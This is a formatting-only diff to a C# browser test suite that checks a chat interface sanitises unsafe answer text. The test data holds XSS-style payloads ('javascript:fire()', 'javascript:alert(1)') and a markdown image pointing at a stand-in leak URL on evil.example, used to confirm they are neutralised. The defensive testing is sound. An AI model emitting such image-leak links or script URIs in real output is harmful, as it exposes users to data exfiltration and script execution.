@@ -60,8 +60,34 @@ public sealed class UnsafeTextTests(BrowserFixture browser)
 
     private static readonly HashSet<string> Harmless =
     [
-        "P", "UL", "OL", "LI", "H3", "H4", "BLOCKQUOTE", "PRE", "CODE", "FIGURE", "FIGCAPTION", "SPAN", "BUTTON", "svg", "path", "DIV",
-        "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A", "STRONG", "EM", "DEL", "HR", "BR",
+        "P",
+        "UL",
+        "OL",
+        "LI",
+        "H3",
+        "H4",
+        "BLOCKQUOTE",
+        "PRE",
+        "CODE",
+        "FIGURE",
+        "FIGCAPTION",
+        "SPAN",
+        "BUTTON",
+        "svg",
+        "path",
+        "DIV",
+        "TABLE",
+        "THEAD",
+        "TBODY",
+        "TR",
+        "TH",
+        "TD",
+        "A",
+        "STRONG",
+        "EM",
+        "DEL",
+        "HR",
+        "BR",
     ];
 
     [BrowserFact]
@@ -71,8 +97,13 @@ public sealed class UnsafeTextTests(BrowserFixture browser)
         await using var chat = await browser.OpenAsync();
         await chat.Page.EvaluateAsync("() => { window.fired = 0; window.fire = () => { fired++; }; }");
         var all = string.Join("\n\n", Corpus);
-        await chat.ScriptAsync(ScriptedAnswer.Done(
-            $"{all}\n\nSaid [1].", [ScriptedAnswer.Citation(1, Corpus[1], Corpus[2], all, source: "javascript:fire()")], [1]));
+        await chat.ScriptAsync(
+            ScriptedAnswer.Done(
+                $"{all}\n\nSaid [1].",
+                [ScriptedAnswer.Citation(1, Corpus[1], Corpus[2], all, source: "javascript:fire()")],
+                [1]
+            )
+        );
 
         await chat.StartAsync(string.Join(' ', Corpus)[..1500]);
         await chat.ExpectState("done");
@@ -85,7 +116,8 @@ public sealed class UnsafeTextTests(BrowserFixture browser)
               name: node.nodeName, address: node.getAttribute('href') ?? node.getAttribute('src') ?? '', rel: node.rel ?? '',
               handler: node.getAttributeNames().some((name) => name.startsWith('on')),
             }))
-            """);
+            """
+        );
         Assert.InRange(found.GetArrayLength(), Corpus.Length, 2000);
         Assert.All(found.EnumerateArray(), node =>
         {
@@ -111,7 +143,9 @@ public sealed class UnsafeTextTests(BrowserFixture browser)
               window.fire = () => resolve(true);
               document.querySelector('div').innerHTML = markup;
             })
-            """, Corpus[1]);
+            """,
+            Corpus[1]
+        );
 
         Assert.True(fired);
         await page.CloseAsync();
@@ -122,9 +156,12 @@ public sealed class UnsafeTextTests(BrowserFixture browser)
     {
         await using var chat = await browser.OpenAsync();
 
-        await chat.AskScriptedAsync(ScriptedAnswer.Done(
-            "![secret](https://evil.example/leak?q=1) " +
-            "[press](javascript:alert(1)) [good](https://learn.microsoft.com) https://example.com/a_b."));
+        await chat.AskScriptedAsync(
+            ScriptedAnswer.Done(
+                "![secret](https://evil.example/leak?q=1) "
+                    + "[press](javascript:alert(1)) [good](https://learn.microsoft.com) https://example.com/a_b."
+            )
+        );
 
         var text = chat.Answer.Locator(".text");
         await Expect(text).ToHaveTextAsync("secret press good https://example.com/a_b.");
